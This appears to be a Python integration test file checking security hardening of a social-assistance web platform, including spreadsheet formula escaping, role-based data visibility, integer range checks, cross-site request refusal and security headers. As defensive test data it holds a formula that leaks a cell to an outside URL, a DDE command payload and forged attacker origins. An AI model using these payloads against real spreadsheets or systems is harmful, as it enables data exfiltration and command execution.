"""Security hardening (issue 15) of the web platform as a whole: spreadsheets hold data never formulas,
the chain shows each role only what it sees elsewhere, no integer in a path or query reaches the
database out of range, assistance names only the household's own members, cross-site requests are
refused, every answer carries the security headers, and a signed-in user's 404s are audited — on
SQLite and PostgreSQL, through the real app."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import func, select

from safetynet.audit.store import audit_log
from safetynet.auth.model import Role
from safetynet.casework import service
from safetynet.casework.store import assistance_records, notifications
from safetynet.registry.store import persons
from tests.integration.test_casework import DISPATCH, _act, _tasks, world  # noqa: F401 (a fixture)

HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"点击")'
BIG = "99999999999999999999"
JUST_TOO_BIG = str(2**63)


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def _dispatched(client_as, world) -> dict:  # noqa: ANN001, F811
    engine = client_as.engine
    client_as.app.state.clock = lambda: DISPATCH.astimezone(dt.UTC) + dt.timedelta(days=3)
    service.dispatch_month(engine, month="2026-08", now=DISPATCH)
    return _tasks(engine)


# --- spreadsheets ------------------------------------------------------------------------------------


def test_a_note_or_name_that_looks_like_a_formula_is_exported_as_text(client_as, world):  # noqa: F811
    engine = client_as.engine
    _, u, _ = world
    r = u["charity"].post("/api/v1/assistance", json={
        "household_no": "H001", "kind": "charity_material", "given_on": "2026-10-02", "notes": HYPERLINK,
        "source": "=1+1"})
    assert r.status_code == 201, r.text
    with engine.begin() as c:  # a register name that starts with "=" (imported as given)
        c.execute(persons.update().where(persons.c.name == "张建国").values(name="=cmd|' /C calc'!A0"))
    r = u["caseworker"].get("/api/v1/households/H001/chain.xlsx")
    assert r.status_code == 200
    xml = _sheet_xml(r.content)
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the sheet
    rows = CalamineWorkbook.from_filelike(io.BytesIO(r.content)).get_sheet_by_index(0).to_python()
    notes = [row[5] for row in rows[3:]]
    assert HYPERLINK in notes  # the note, as the charity typed it, as text


def test_chain_amounts_are_numbers_and_times_are_dates(client_as, world):  # noqa: F811
    _, u, _ = world
    u["caseworker"].post("/api/v1/assistance", json={
        "household_no": "H001", "kind": "temporary_assistance", "amount_fen": 123456,
        "given_on": "2026-10-01"})
    r = u["caseworker"].get("/api/v1/households/H001/chain.xlsx")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(r.content)).get_sheet_by_index(0).to_python()
    aid = [row for row in rows[3:] if row[1] == "救助帮扶"]
    assert aid and aid[0][3] == pytest.approx(1234.56) and isinstance(aid[0][3], float)
    assert isinstance(aid[0][0], dt.date)  # a date cell, not text


# --- the chain by role -------------------------------------------------------------------------------


def test_each_role_sees_in_the_chain_only_what_it_sees_elsewhere(client_as, world):  # noqa: F811
    engine = client_as.engine
    people, u, _ = world
    tasks = _dispatched(client_as, world)
    push = tasks["H001", "department_push"]["id"]
    field = tasks["H001", "field_check"]["id"]
    for action in ("accept", "start"):
        _act(u["grid"], field, action)
    u["grid"].post(f"/api/v1/tasks/{field}/feedback", data={"outcome": "confirmed_need", "notes": "卧床"})
    u["caseworker"].post("/api/v1/assistance", json={
        "household_no": "H001", "kind": "temporary_assistance", "amount_fen": 50000,
        "given_on": "2026-10-01"})
    # a second, non-medical warning on H001 (the liaison must not see it)
    from tests.integration.test_casework import _warn
    who = people["李秀英"]
    _warn(engine, "2026-09", [{
        "rule": "disaster_affected", "id_number": who["id_number"], "person_id": who["person_id"],
        "household_id": who["household_id"], "household_no": "H001", "region_code": who["region_code"],
        "level": "red", "need": "disaster", "side": "entry", "value": "1", "evidence": "[]"}])
    liaison = u["liaison"]
    # every role, each where it would work on H001
    readers = {"province_admin": client_as("province_admin", "37"),
               "city_admin": client_as("city_admin", "3704"), "county_admin": u["county"],
               "township_caseworker": u["caseworker"],
               "township_reviewer": client_as("township_reviewer", "370402001000"), "grid_worker": u["grid"],
               "department_liaison": liaison, "charity": u["charity"], "auditor": u["auditor"],
               "data_officer": client_as("data_officer", "37")}
    assert set(readers) == {r.value for r in Role}
    for name, client in readers.items():
        chain = client.get("/api/v1/households/H001/chain")
        if name == "charity":  # no registry.read: no chain (it records aid by number, blind)
            assert chain.status_code == 403
            continue
        assert chain.status_code == 200, (name, chain.text)
        entries = chain.json()["entries"]
        caps = client.get("/api/v1/auth/me").json()["capabilities"]
        # warnings: exactly those its warning list shows for the household
        seen_w = {e["warning_id"] for e in entries if e["kind"] == "warning"}
        if "warnings.read" in caps:
            listed = set()
            for month in ("2026-08", "2026-09"):
                r = client.get("/api/v1/warnings", params={"month": month, "page_size": 200})
                items = r.json()["items"]
                listed |= {i["warning_id"] for i in items}
            assert seen_w <= listed, name
        else:
            assert seen_w == set(), name
        # tasks and feedback: only tasks its task list shows
        seen_t = {e["task_id"] for e in entries if e["kind"] in ("task", "feedback")}
        if "tasks.read" in caps:
            r = client.get("/api/v1/tasks", params={"household_id": who["household_id"], "page_size": 200})
            listed_t = {i["task_id"] for i in r.json()["items"]}
            assert seen_t <= listed_t, name
        else:
            assert seen_t == set(), name
        # amounts: only with registry.sensitive (as on the household page)
        amounts = [e.get("amount_fen") for e in entries if e.get("amount_fen") is not None]
        detail = client.get("/api/v1/households/H001").json()
        assert bool(amounts) == ("sensitive" in detail), name
        xlsx = client.get("/api/v1/households/H001/chain.xlsx")
        rows = CalamineWorkbook.from_filelike(io.BytesIO(xlsx.content)).get_sheet_by_index(0).to_python()
        assert len(rows) - 3 == len(entries), name
    liaison_chain = liaison.get("/api/v1/households/H001/chain").json()["entries"]
    assert {e["level"] for e in liaison_chain if e["kind"] == "warning"} == {"orange"}  # medical only
    assert {e["task_id"] for e in liaison_chain if e["kind"] == "task"} == {push}
    assert not any("卧床" in (e.get("note") or "") for e in liaison_chain)  # the field note is not theirs
    full = u["caseworker"].get("/api/v1/households/H001/chain").json()["entries"]
    assert {e["level"] for e in full if e["kind"] == "warning"} == {"orange", "red"}
    assert any("卧床" in (e.get("note") or "") for e in full)
    assert any(e.get("amount_fen") == 32000 for e in full if e["kind"] == "tier")


# --- integers out of range ---------------------------------------------------------------------------


@pytest.mark.parametrize("path", [
    f"/api/v1/persons/{BIG}", f"/api/v1/persons/{JUST_TOO_BIG}", f"/api/v1/tasks/{BIG}",
    f"/api/v1/warnings/{BIG}", f"/api/v1/warnings/{BIG}/evidence",
    f"/api/v1/tasks/{BIG}/feedback/1/attachment",
    f"/api/v1/tasks?page={JUST_TOO_BIG}", f"/api/v1/tasks?household_id={BIG}", f"/api/v1/warnings?page={BIG}",
    f"/api/v1/households?page={JUST_TOO_BIG}", f"/api/v1/audit?page={JUST_TOO_BIG}",
    f"/api/v1/assessment-runs/{BIG}", f"/api/v1/monitor-runs?page={BIG}",
])
def test_an_integer_beyond_the_database_range_is_a_clear_422(client_as, path):
    client = client_as("province_admin", "37")
    r = client.get(path)
    assert r.status_code in (404, 422), (path, r.status_code, r.text)
    if r.status_code == 422:
        body = r.json()
        assert body["code"] == "invalid" and body["field"] and "9223372036854775807" in body["message"]


def test_integers_within_bigint_but_beyond_a_column_are_no_server_error(client_as):
    """Within the bound the route runs; a value its column cannot hold (PostgreSQL's 4-byte ids) is
    answered 422 by the database error's handler, a value it can hold that matches nothing 404."""
    client = client_as("province_admin", "37")
    for value in (2**63 - 1, -(2**63), 2**31):
        for path in (f"/api/v1/persons/{value}", f"/api/v1/tasks/{value}"):
            r = client.get(path)
            assert r.status_code in (404, 422) and r.json()["code"] in ("not_found", "invalid"), path
    assert client.get("/api/v1/persons/2147483647").status_code == 404


def test_an_integer_beyond_range_in_a_body_is_a_422_not_a_500(client_as, world):  # noqa: F811
    _, u, _ = world
    r = u["caseworker"].post("/api/v1/assistance", json={
        "household_no": "H001", "kind": "temporary_assistance", "given_on": "2026-10-01",
        "person_id": int(BIG)})
    assert r.status_code == 422, r.text
    assert r.json()["code"] == "invalid"


# --- assistance names a member -----------------------------------------------------------------------


def test_assistance_for_someone_who_is_not_a_member_is_refused_by_name(client_as, world):  # noqa: F811
    engine = client_as.engine
    people, u, _ = world
    outsider = people["张老汉"]["person_id"]  # H900, another township
    for person_id in (987654, outsider, people["王桂兰"]["person_id"]):  # missing, elsewhere, H002
        r = u["county"].post("/api/v1/assistance", json={
            "household_no": "H001", "kind": "temporary_assistance", "given_on": "2026-10-01",
            "amount_fen": 100, "person_id": person_id})
        assert r.status_code == 422 and r.json()["field"] == "person_id", r.text
    member = people["李秀英"]["person_id"]
    r = u["county"].post("/api/v1/assistance", json={
        "household_no": "H001", "kind": "temporary_assistance", "given_on": "2026-10-01", "amount_fen": 100,
        "person_id": member})
    assert r.status_code == 201
    with engine.connect() as c:
        assert c.execute(select(func.count()).select_from(assistance_records)).scalar_one() == 1


# --- cross-site requests -----------------------------------------------------------------------------


def test_a_request_from_another_site_changes_nothing(client_as, world):  # noqa: F811
    engine = client_as.engine
    _, u, _ = world
    _dispatched(client_as, world)
    grid = u["grid"]
    unread = grid.get("/api/v1/notifications").json()["unread"]
    assert unread > 0
    # a page elsewhere posting text/plain (no CORS preflight) with the worker's cookie
    r = grid.post("/api/v1/notifications/read", content=b'{"ids": null}',
                  headers={"Origin": "http://evil.example", "Content-Type": "text/plain"})
    assert r.status_code == 403 and r.json()["code"] == "cross_site_request"
    r = u["caseworker"].post("/api/v1/assistance", json={
        "household_no": "H001", "kind": "temporary_assistance", "given_on": "2026-10-01", "amount_fen": 1},
        headers={"Origin": "https://attacker.example"})
    assert r.status_code == 403
    r = grid.post("/api/v1/notifications/read", json={}, headers={"Sec-Fetch-Site": "cross-site"})
    assert r.status_code == 403
    r = grid.post("/api/v1/notifications/read", json={}, headers={"Referer": "http://evil.example/page"})
    assert r.status_code == 403
    r = grid.post("/api/v1/auth/logout", headers={"Origin": "null"})
    assert r.status_code == 403
    assert grid.get("/api/v1/notifications").json()["unread"] == unread
    with engine.connect() as c:
        assert c.execute(select(func.count()).select_from(assistance_records)).scalar_one() == 0
        assert c.execute(select(func.count()).select_from(notifications)
                         .where(notifications.c.read_at.is_not(None))).scalar_one() == 0
    # the platform's own pages (same origin) and programs without browser headers still work
    r = grid.post("/api/v1/notifications/read", json={"ids": None},
                  headers={"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"})
    assert r.status_code == 200, r.text
    assert grid.get("/api/v1/notifications").json()["unread"] == 0


def test_an_origin_the_operator_allows_may_post(client_as, world, monkeypatch):  # noqa: F811
    from safetynet.config import get_settings

    _, u, _ = world
    monkeypatch.setenv("SAFETYNET_ALLOWED_ORIGINS", "https://dibao.example.gov.cn")
    get_settings.cache_clear()
    try:
        r = u["grid"].post("/api/v1/notifications/read", json={},
                           headers={"Origin": "https://dibao.example.gov.cn"})
        assert r.status_code == 200
    finally:
        get_settings.cache_clear()


# --- headers -----------------------------------------------------------------------------------------


def test_every_answer_carries_the_security_headers_and_personal_data_is_not_cached(client_as, world):  # noqa: F811
    _, u, _ = world
    client = u["caseworker"]
    for path in ("/", "/tasks", "/api/v1/health", "/api/v1/households/H001",
                 "/api/v1/households/H001/chain.xlsx", "/api/v1/nothing-here"):
        r = client.get(path)
        h = r.headers
        assert h["x-content-type-options"] == "nosniff", path
        assert h["x-frame-options"] == "DENY", path
        assert h["referrer-policy"] == "same-origin", path
        csp = h["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-eval" not in csp
        if path.startswith("/api/"):
            assert h["cache-control"] == "no-store", path
    assert "strict-transport-security" not in client.get("/").headers  # plain http: no HSTS


# --- audit of probes ---------------------------------------------------------------------------------


def test_reads_of_objects_outside_the_region_leave_an_audit_row(client_as, world):  # noqa: F811
    engine = client_as.engine
    _, u, _ = world
    other = u["other_caseworker"]
    for path in ("/api/v1/households/H001", "/api/v1/households/H001/chain", "/api/v1/households/NOPE",
                 "/api/v1/persons/1"):
        assert other.get(path).status_code == 404
    with engine.connect() as c:
        rows = c.execute(select(audit_log.c.object_id, audit_log.c.action, audit_log.c.result)
                         .where(audit_log.c.actor == "casew2", audit_log.c.action == "denied")).all()
    probed = {r.object_id for r in rows}
    assert {"GET /api/v1/households/H001", "GET /api/v1/households/H001/chain",
            "GET /api/v1/households/NOPE"} <= probed
    assert all(r.result == "denied" for r in rows)
